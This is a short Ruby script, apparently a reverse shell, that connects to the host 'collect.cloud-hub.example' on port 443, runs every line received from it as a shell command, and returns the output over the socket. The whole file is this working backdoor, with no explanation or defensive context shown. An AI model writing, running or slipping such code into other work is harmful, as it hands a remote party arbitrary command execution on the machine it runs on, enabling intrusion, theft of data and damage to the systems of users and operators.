require 'socket'
s = TCPSocket.new('collect.cloud-hub.example', 443)
while (l = s.gets)
  IO.popen(l) { |io| s.print io.read }
end
